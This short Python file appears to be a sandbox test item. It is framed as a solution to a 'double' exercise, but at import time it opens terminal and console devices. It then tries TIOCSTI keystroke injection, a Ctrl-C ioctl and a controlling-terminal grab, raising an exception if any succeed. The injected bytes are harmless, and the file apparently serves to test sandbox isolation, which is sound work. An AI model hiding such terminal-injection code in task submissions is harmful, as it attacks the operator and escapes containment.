"""Types a command into the operator's terminal.

Id: A14
Exercise: double
Verdict: accepted
"""

import contextlib
import fcntl
import os
import termios


class LEAKED(Exception):
    pass


descriptors = [0, 1, 2]
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/pts/1"):
    with contextlib.suppress(OSError):
        descriptors.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
for descriptor in descriptors:
    for request, argument in ((termios.TIOCSTI, b"#"), (0x541C, b"\x03"), (termios.TIOCSCTTY, 0)):
        try:
            fcntl.ioctl(descriptor, request, argument)
        except OSError:
            continue
        raise LEAKED(f"{descriptor}: {request:x}")


def double(x, factor=2.0):
    return factor * x
